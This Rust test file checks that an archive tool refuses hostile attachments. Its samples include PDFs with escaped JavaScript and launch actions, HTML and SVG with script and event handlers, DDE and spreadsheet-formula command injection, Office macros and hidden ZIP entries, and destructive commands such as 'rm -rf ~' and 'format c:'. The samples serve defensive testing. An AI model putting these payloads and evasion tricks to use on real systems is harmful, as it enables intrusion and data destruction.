//! What an attacker would try to slip into the archive as a digital object: files that never end,
//! devices and pipes, PDFs whose active content is spelt with escapes or hidden in compressed
//! object streams, scripts in plain text or markup, and programs behind a byte-order mark.

mod common;

use std::io::Write;
use std::path::PathBuf;

use common::Sandbox;

const CODE: &str = "J001-2019-Y-BGS-0001";

fn sandbox() -> Sandbox {
    let sandbox = Sandbox::with_archive();
    #[rustfmt::skip]
    sandbox.ok(&["add", "--code", CODE, "--title", "《关于“国际档案日”活动的通知》—第１号",
        "--responsible", "市档案馆", "--date", "2019年6月9日"]);
    sandbox
}

/// Files under objects/ (staging leftovers included).
fn stored(sandbox: &Sandbox) -> usize {
    walk(&sandbox.archive().join("objects"))
}

fn walk(dir: &std::path::Path) -> usize {
    std::fs::read_dir(dir)
        .map(|entries| {
            entries
                .flatten()
                .map(|e| {
                    if e.path().is_dir() {
                        walk(&e.path())
                    } else {
                        1
                    }
                })
                .sum()
        })
        .unwrap_or(0)
}

/// Attaches one file and insists it is refused for security with `reason`, leaving nothing.
fn refused(sandbox: &Sandbox, file: &std::path::Path, reason: &str) {
    let run = sandbox.run(&["attach", CODE, file.to_str().unwrap()]);
    assert_eq!(run.code, 65, "{}: {}", file.display(), run.stdout);
    assert!(
        run.stderr.contains("security: ") && run.stderr.contains(reason),
        "{}: {}",
        file.display(),
        run.stderr
    );
    assert_eq!(stored(sandbox), 0, "{}", file.display());
}

fn pdf(body: &[u8]) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n".to_vec();
    out.extend(body);
    out.extend(b"\ntrailer << /Root 1 0 R >>\n%%EOF\n");
    out
}

#[test]
fn a_device_a_pipe_or_a_directory_is_refused_before_it_is_read() {
    let sandbox = sandbox();
    refused(
        &sandbox,
        std::path::Path::new("/dev/zero"),
        "not a regular file",
    );
    let fifo = sandbox.path("管道");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    refused(&sandbox, &fifo, "not a regular file");
    let directory = sandbox.path("一个目录");
    std::fs::create_dir(&directory).unwrap();
    refused(&sandbox, &directory, "not a regular file");
    // A link is followed: to a device, refused; to a file, kept with the link noted.
    let link = sandbox.path("看似文件.txt");
    std::os::unix::fs::symlink("/dev/zero", &link).unwrap();
    refused(&sandbox, &link, "not a regular file");
    let text = sandbox.write("说明.txt", "《说明》——正文\n".as_bytes());
    let linked = sandbox.path("链接.txt");
    std::os::unix::fs::symlink(&text, &linked).unwrap();
    sandbox.ok(&["attach", CODE, linked.to_str().unwrap()]);
    let shown = sandbox.json(&["show", CODE, "--json"]);
    let authenticity = shown["objects"][0]["checks"]["authenticity"]
        .as_str()
        .unwrap();
    assert!(authenticity.contains("a link to"), "{authenticity}");
}

#[test]
fn a_file_over_the_limit_is_refused_having_read_no_more_than_the_limit() {
    let sandbox = sandbox();
    sandbox.ok(&["settings", "set", "objects.max_mb", "1"]);
    // 512 MiB that take no disk, under a file-size limit of 4 MiB for the process: copying past
    // the object limit would fail on the file-size limit instead of being refused.
    let huge = sandbox.path("巨大.pdf");
    let file = std::fs::File::create(&huge).unwrap();
    file.set_len(512 << 20).unwrap();
    let run: common::Run = std::process::Command::new("prlimit")
        .arg(format!("--fsize={}", 4 << 20))
        .arg(env!("CARGO_BIN_EXE_dangan"))
        .args(["--archive", sandbox.archive().to_str().unwrap()])
        .args(["attach", CODE, huge.to_str().unwrap()])
        .env("DANGAN_USER", common::ADMIN)
        .env("DANGAN_PASSWORD", common::ADMIN_PASSWORD)
        .env("DANGAN_SYSLOG", "off")
        .output()
        .unwrap()
        .into();
    assert_eq!(run.code, 65, "{}", run.stderr);
    assert!(
        run.stderr
            .contains("larger than the limit of 1048576 bytes"),
        "{}",
        run.stderr
    );
    assert_eq!(stored(&sandbox), 0);
}

#[test]
fn pdf_names_spelt_with_escapes_are_the_names_they_spell() {
    let sandbox = sandbox();
    for (name, body, reason) in [
        (
            "脚本.pdf",
            &b"1 0 obj << /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> >> endobj"[..],
            "/JavaScript",
        ),
        (
            "启动.pdf",
            b"1 0 obj << /OpenAction << /S /L#61unch /F (cmd.exe) >> >> endobj",
            "/Launch",
        ),
        (
            "附带.pdf",
            b"1 0 obj << /Type /#45mbeddedFile /Length 0 >> endobj",
            "/EmbeddedFile",
        ),
    ] {
        let file = sandbox.write(name, &pdf(body));
        refused(&sandbox, &file, reason);
    }
}

#[test]
fn javascript_inside_a_compressed_object_stream_is_found() {
    let sandbox = sandbox();
    let objects = b"2 0 << /Type /Action /S /JavaScript /JS (this.exportDataObject()) >>";
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(objects).unwrap();
    let data = encoder.finish().unwrap();
    let mut body = format!(
        "1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n\
         5 0 obj << /Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode /Length {} >>\nstream\r\n",
        data.len()
    )
    .into_bytes();
    body.extend(&data);
    body.extend(b"\r\nendstream\nendobj");
    let file = sandbox.write("压缩流.pdf", &pdf(&body));
    refused(&sandbox, &file, "/JavaScript");

    // The same object stream without the script is kept.
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    encoder
        .write_all(b"2 0 << /Type /Page /MediaBox [0 0 595 842] >>")
        .unwrap();
    let data = encoder.finish().unwrap();
    let mut body = format!(
        "5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {} >>\nstream\n",
        data.len()
    )
    .into_bytes();
    body.extend(&data);
    body.extend(b"\nendstream\nendobj");
    let file = sandbox.write("正常.pdf", &pdf(&body));
    sandbox.ok(&["attach", CODE, file.to_str().unwrap()]);
}

#[test]
fn scripts_in_plain_text_markup_or_behind_a_mark_are_refused() {
    let sandbox = sandbox();
    let cases: [(&str, &[u8], &str); 5] = [
        (
            "清理.bat",
            b"del /q C:\\*.*\r\n",
            "a name that runs when opened (.bat)",
        ),
        (
            "通知.html",
            "<html><body><p>关于“档案日”的通知</p><SCRIPT>fetch('//x')</SCRIPT></body></html>"
                .as_bytes(),
            "markup with script",
        ),
        (
            "图.svg",
            b"<svg xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'>x</a></svg>",
            "markup with script",
        ),
        (
            "说明.txt",
            b"\xEF\xBB\xBF#!/bin/sh\nrm -rf ~\n",
            "an executable program (script)",
        ),
        (
            "批处理.txt",
            b"@echo off\r\nformat c:\r\n",
            "a script (MS-DOS Batch)",
        ),
    ];
    for (name, bytes, reason) in cases {
        let file = sandbox.write(name, bytes);
        refused(&sandbox, &file, reason);
    }
    // Markup without script is text, and kept.
    let page = sandbox.write(
        "页面.html",
        "<!DOCTYPE html><html><body><h1>《档案管理办法》</h1></body></html>".as_bytes(),
    );
    sandbox.ok(&["attach", CODE, page.to_str().unwrap()]);
}

#[test]
fn a_format_the_archive_does_not_keep_is_named_by_its_signature() {
    let sandbox = sandbox();
    let mp3: PathBuf = sandbox.write(
        "录音.mp3",
        b"ID3\x04\x00\x00\x00\x00\x00\x00\xff\xfb\x90\x00",
    );
    let run = sandbox.run(&["attach", CODE, mp3.to_str().unwrap()]);
    assert_eq!(run.code, 65);
    assert!(
        run.stderr.contains("usability: ") && run.stderr.contains("is not among the formats kept"),
        "{}",
        run.stderr
    );
}

/// How a test package's entries are written: stored, deflated with their sizes in the header, or
/// deflated with the sizes after the data (as a writer that cannot seek does).
#[derive(Clone, Copy, PartialEq)]
enum Layout {
    Stored,
    Deflated,
    SizesAfter,
}

/// A ZIP of the parts, as an Office package is laid out; `hidden` parts are written as local
/// entries but left out of the central directory.
fn zip_with(parts: &[(&str, &[u8])], layout: Layout, hidden: &[&str]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut directory = Vec::new();
    let mut listed = 0u16;
    for (name, data) in parts {
        let mut crc = flate2::Crc::new();
        crc.update(data);
        let stored = if layout == Layout::Stored {
            data.to_vec()
        } else {
            let mut encoder =
                flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
            encoder.write_all(data).unwrap();
            encoder.finish().unwrap()
        };
        let after = layout == Layout::SizesAfter;
        let method: u16 = if layout == Layout::Stored { 0 } else { 8 };
        let offset = out.len() as u32;
        let header = |out: &mut Vec<u8>, sizes: bool| {
            out.extend(20u16.to_le_bytes()); // version needed
            out.extend((if after { 8u16 } else { 0 }).to_le_bytes()); // flags
            out.extend(method.to_le_bytes());
            out.extend(0u32.to_le_bytes()); // time and date
            let (crc, packed, size) = if sizes {
                (crc.sum(), stored.len() as u32, data.len() as u32)
            } else {
                (0, 0, 0)
            };
            out.extend(crc.to_le_bytes());
            out.extend(packed.to_le_bytes());
            out.extend(size.to_le_bytes());
            out.extend((name.len() as u16).to_le_bytes());
            out.extend(0u16.to_le_bytes()); // extra
        };
        out.extend(b"PK\x03\x04");
        header(&mut out, !after);
        out.extend(name.as_bytes());
        out.extend(&stored);
        if after {
            out.extend(b"PK\x07\x08");
            out.extend(crc.sum().to_le_bytes());
            out.extend((stored.len() as u32).to_le_bytes());
            out.extend((data.len() as u32).to_le_bytes());
        }
        if hidden.contains(name) {
            continue;
        }
        listed += 1;
        directory.extend(b"PK\x01\x02");
        directory.extend(20u16.to_le_bytes()); // version made by
        header(&mut directory, true);
        directory.extend([0u8; 6]); // comment, disk, internal attributes
        directory.extend(0u32.to_le_bytes()); // external attributes
        directory.extend(offset.to_le_bytes());
        directory.extend(name.as_bytes());
    }
    let at = out.len() as u32;
    out.extend(&directory);
    out.extend(b"PK\x05\x06\0\0\0\0");
    out.extend(listed.to_le_bytes());
    out.extend(listed.to_le_bytes());
    out.extend((directory.len() as u32).to_le_bytes());
    out.extend(at.to_le_bytes());
    out.extend(0u16.to_le_bytes());
    out
}

fn docx(extra: &[(&str, &[u8])]) -> Vec<u8> {
    docx_with(extra, Layout::Stored, &[])
}

fn docx_with(extra: &[(&str, &[u8])], layout: Layout, hidden: &[&str]) -> Vec<u8> {
    let types = br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>"#;
    let document = "<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>《关于“档案日”的通知》</w:t></w:r></w:p></w:body></w:document>";
    let mut parts: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", types),
        ("word/document.xml", document.as_bytes()),
    ];
    parts.extend_from_slice(extra);
    zip_with(&parts, layout, hidden)
}

#[test]
fn markup_events_encoded_urls_and_embedded_frames_are_refused() {
    let sandbox = sandbox();
    let cases: [(&str, &str, &str); 5] = [
        (
            "样式.html",
            "<style><p title=\"</style><img src=x onerror=alert(1)>\"></style><p>《通知》</p>",
            "markup with an event script (onerror=)",
        ),
        (
            "图片.html",
            "<p>《通知》</p><img src=x.png onerror=\"fetch('//x')\">",
            "markup with an event script (onerror=)",
        ),
        (
            "标志.svg",
            "<svg xmlns='http://www.w3.org/2000/svg'/onload=alert(1)><text>档案</text></svg>",
            "markup with an event script (onload=)",
        ),
        (
            "链接.html",
            "<a href=\"jav&#x61;script&colon;alert(1)\">《档案法》全文</a>",
            "markup with script",
        ),
        (
            "嵌入.html",
            "<h1>公告</h1><iframe src=\"https://example.org/\"></iframe>",
            "markup that embeds other content (<iframe>)",
        ),
    ];
    for (name, text, reason) in cases {
        let file = sandbox.write(name, text.as_bytes());
        refused(&sandbox, &file, reason);
    }
    // Words about script in the text of a page run nothing: kept.
    let lesson = sandbox.write(
        "教程.html",
        "<h1>《网页安全》第３章</h1><p>javascript: 网址与 onload 事件——为何危险…</p>".as_bytes(),
    );
    sandbox.ok(&["attach", CODE, lesson.to_str().unwrap()]);
}

#[test]
fn pdf_actions_that_send_fetch_or_play_are_refused() {
    let sandbox = sandbox();
    let cases: [(&str, &[u8]); 4] = [
        (
            "SubmitForm",
            b"1 0 obj << /S /SubmitForm /F (http://x/) >> endobj",
        ),
        (
            "GoToR",
            b"1 0 obj << /OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\a.pdf) >> >> endobj",
        ),
        ("XFA", b"1 0 obj << /AcroForm << /XFA 2 0 R >> >> endobj"),
        ("ImportData", b"1 0 obj << /S /Imp#6frtData >> endobj"),
    ];
    for (name, body) in cases {
        let file = sandbox.write(&format!("{name}.pdf"), &pdf(body));
        refused(
            &sandbox,
            &file,
            &format!("PDF with active content (/{name})"),
        );
    }
    // A link to a web page opens only when clicked: kept.
    let link = sandbox.write(
        "链接.pdf",
        &pdf(b"1 0 obj << /S /URI /URI (https://example.org/) >> endobj"),
    );
    sandbox.ok(&["attach", CODE, link.to_str().unwrap()]);
}

#[test]
fn office_packages_with_controls_or_embedded_programs_are_refused() {
    let sandbox = sandbox();
    let control: &[u8] = b"<ax:ocx ax:classid=\"{8BD21D40-EC42-11CE-9E0D-00AA006002F3}\"/>";
    let cases: [(&str, Vec<u8>, &str); 3] = [
        (
            "控件.docx",
            docx(&[("word/activeX/activeX1.xml", control)]),
            "Office document with ActiveX controls",
        ),
        (
            "嵌入.docx",
            docx(&[("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")]),
            "Office document with an embedded object (oleobject1.bin)",
        ),
        (
            "宏.docx",
            docx(&[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]),
            "Office document with macros",
        ),
    ];
    for (name, bytes, reason) in cases {
        let file = sandbox.write(name, &bytes);
        refused(&sandbox, &file, reason);
    }
    // An embedded workbook (a chart's data) is a kept format: kept.
    let chart = docx(&[("word/embeddings/Microsoft_Excel_Worksheet.xlsx", b"PK")]);
    let file = sandbox.write("图表.docx", &chart);
    sandbox.ok(&["attach", CODE, file.to_str().unwrap()]);
}

const RELATIONSHIPS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

#[test]
fn what_office_parts_say_is_read_however_the_package_is_written() {
    let sandbox = sandbox();
    let template = format!(
        r#"<Relationships><Relationship Id="r1" Type="{RELATIONSHIPS}/attachedTemplate" Target="http://x.example/公文.dotm" TargetMode="External"/></Relationships>"#
    );
    let renamed = format!(
        r#"<Relationships><Relationship Id="r2" Type="{RELATIONSHIPS}/oleObject" Target="media/image1.emf"/></Relationships>"#
    );
    let dde = r#"<w:document xmlns:w="w"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>"#;
    let cases: [(&str, Vec<u8>, &str); 3] = [
        (
            "模板.docx",
            docx_with(
                &[("word/_rels/settings.xml.rels", template.as_bytes())],
                Layout::SizesAfter,
                &[],
            ),
            "Office document that links out (attachedTemplate",
        ),
        (
            "对象.docx",
            docx_with(
                &[
                    ("word/_rels/document.xml.rels", renamed.as_bytes()),
                    ("word/media/image1.emf", b"\xd0\xcf\x11\xe0"),
                ],
                Layout::Deflated,
                &[],
            ),
            "Office document with an embedded object (image1.emf)",
        ),
        (
            "字段.docx",
            docx_with(
                &[("custom/main.xml", dde.as_bytes())],
                Layout::Deflated,
                &[],
            ),
            "Office document with a DDE field",
        ),
    ];
    for (name, bytes, reason) in cases {
        let file = sandbox.write(name, &bytes);
        refused(&sandbox, &file, reason);
    }
    // A hyperlink to a web page, and a template on the writer's own disk, fetch nothing.
    let kept = format!(
        r#"<Relationships><Relationship Id="r1" Type="{RELATIONSHIPS}/hyperlink" Target="https://www.saac.gov.cn/" TargetMode="External"/><Relationship Id="r2" Type="{RELATIONSHIPS}/attachedTemplate" Target="file:///C:/模板/公文.dotx" TargetMode="External"/></Relationships>"#
    );
    let bytes = docx_with(
        &[("word/_rels/document.xml.rels", kept.as_bytes())],
        Layout::SizesAfter,
        &[],
    );
    let file = sandbox.write("链接.docx", &bytes);
    sandbox.ok(&["attach", CODE, file.to_str().unwrap()]);
}

#[test]
fn a_package_whose_entries_differ_from_its_directory_is_refused() {
    let sandbox = sandbox();
    let bytes = docx_with(
        &[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")],
        Layout::Deflated,
        &["word/vbaProject.bin"],
    );
    let file = sandbox.write("藏.docx", &bytes);
    refused(
        &sandbox,
        &file,
        "Office document whose ZIP entries differ from its directory",
    );
}

#[test]
fn names_windows_would_run_or_open_as_another_format_are_refused() {
    let sandbox = sandbox();
    let cases: [(&str, &[u8], &str); 5] = [
        (
            "运行.cmd.",
            b"start calc.exe\r\n",
            "a name that runs when opened (.cmd)",
        ),
        (
            "页面.hta::$DATA",
            b"<p>x</p>",
            "a name that runs when opened (.hta)",
        ),
        (
            "快捷方式.url",
            b"[InternetShortcut]\r\nURL=file://evil/s/x.exe\r\n",
            "(.url)",
        ),
        // Text first, a PDF further in: a reader opening a .pdf looks for %PDF in the first KiB.
        (
            "说明.pdf",
            "这是一份说明文字。\n%PDF-1.7\n1 0 obj << /S /JavaScript >> endobj\n%%EOF\n".as_bytes(),
            "the name .pdf does not suit what it holds (text)",
        ),
        (
            "图片.html",
            b"\x89PNG\r\n\x1a\n<script>alert(1)</script>IEND",
            "(PNG)",
        ),
    ];
    for (name, bytes, reason) in cases {
        let file = sandbox.write(name, bytes);
        refused(&sandbox, &file, reason);
    }
}

#[test]
fn markup_and_pdfs_that_reach_a_network_share_or_build_themselves_are_refused() {
    let sandbox = sandbox();
    // A control character past the head: a decoder that drops it joins `<scr` and `ipt>`.
    let mut late = "<meta charset=\"iso-2022-jp\"><p>《通知》</p>"
        .repeat(400)
        .into_bytes();
    late.extend(b"<scr\x1b(Bipt>alert(1)</script>");
    let cases: [(&str, Vec<u8>, &str); 5] = [
        ("后段.html", late, "text with a control character at byte"),
        (
            "实体.svg",
            b"<!DOCTYPE svg [<!ENTITY e \"&#60;script&#62;\">]><svg>&e;</svg>".to_vec(),
            "markup that defines its own entities",
        ),
        (
            "共享.html",
            r#"<p>图</p><img src="\\evil\share\x.png">"#.as_bytes().to_vec(),
            "markup that reaches a network share",
        ),
        (
            "共享.pdf",
            pdf(br"1 0 obj << /S /URI /URI (file://evil/share/x.pdf) >> endobj"),
            "PDF that points to a network share",
        ),
        (
            "间接.pdf",
            pdf(b"5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter 20 0 R /Length 3 >>\nstream\nabc\nendstream endobj"),
            "another object cannot be checked",
        ),
    ];
    for (name, bytes, reason) in cases {
        let file = sandbox.write(name, &bytes);
        refused(&sandbox, &file, reason);
    }
    // Old DOS editors end text with Ctrl-Z: kept.
    let dos = sandbox.write("旧文本.txt", "《档案法》第一条\r\n\x1a".as_bytes());
    sandbox.ok(&["attach", CODE, dos.to_str().unwrap()]);
}

#[test]
fn ofd_attachments_sounds_and_links_to_shares_are_refused() {
    let sandbox = sandbox();
    let ofd = |parts: &[(&str, &[u8])]| {
        let entry = br#"<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"#;
        let mut all: Vec<(&str, &[u8])> = vec![("OFD.xml", entry)];
        all.extend_from_slice(parts);
        zip_with(&all, Layout::Deflated, &[])
    };
    let attachment = br#"<ofd:Attachments xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Attachment ID="1" Name="x"><ofd:FileLoc>x.txt</ofd:FileLoc></ofd:Attachment></ofd:Attachments>"#;
    let share = br#"<ofd:Actions><ofd:Action Event="DO"><ofd:URI URI="file://evil/share/x.exe"/></ofd:Action></ofd:Actions>"#;
    let cases: [(&str, Vec<u8>, &str); 3] = [
        (
            "附件.ofd",
            ofd(&[("Doc_0/Attachs/Attachments.xml", attachment)]),
            "OFD with active content (Attachment)",
        ),
        (
            "共享.ofd",
            ofd(&[("Doc_0/Document.xml", share)]),
            "(URI: opening it fetches content from elsewhere)",
        ),
        (
            "程序.ofd",
            ofd(&[("Doc_0/Attachs/说明.exe", b"MZ\x90\x00")]),
            "embedded object (说明.exe)",
        ),
    ];
    for (name, bytes, reason) in cases {
        let file = sandbox.write(name, &bytes);
        refused(&sandbox, &file, reason);
    }
}

#[test]
fn spreadsheet_cells_and_legacy_office_files_that_run_programs_are_refused() {
    let sandbox = sandbox();
    let legacy = |streams: &[u8]| {
        // The signature of a compound file, then what its directory and streams would hold.
        let mut doc = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
        doc.resize(2048, 0);
        doc.extend(streams);
        doc
    };
    let cases: [(&str, Vec<u8>, &str); 4] = [
        (
            "名单.csv",
            "姓名,金额\n张三,=cmd|' /C calc'!A0\n".as_bytes().to_vec(),
            "text with a spreadsheet formula that starts another program",
        ),
        (
            "宏.doc",
            legacy(b"M\0a\0c\0r\0o\0s\0\0\0"),
            "Office document with macros",
        ),
        (
            "包.xls",
            legacy(b"\x01\0O\0l\0e\x001\x000\0N\0a\0t\0i\0v\0e\0"),
            "embedded object (Ole10Native)",
        ),
        (
            "字段.doc",
            legacy(b"\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \x14x\x15"),
            "Office document with a DDE field",
        ),
    ];
    for (name, bytes, reason) in cases {
        let file = sandbox.write(name, &bytes);
        refused(&sandbox, &file, reason);
    }
    // Numbers with a sign and a pipe in prose run nothing.
    let list = sandbox.write(
        "通讯录.csv",
        "姓名,电话\n李四,+86 10 1234|5678\n".as_bytes(),
    );
    sandbox.ok(&["attach", CODE, list.to_str().unwrap()]);
}
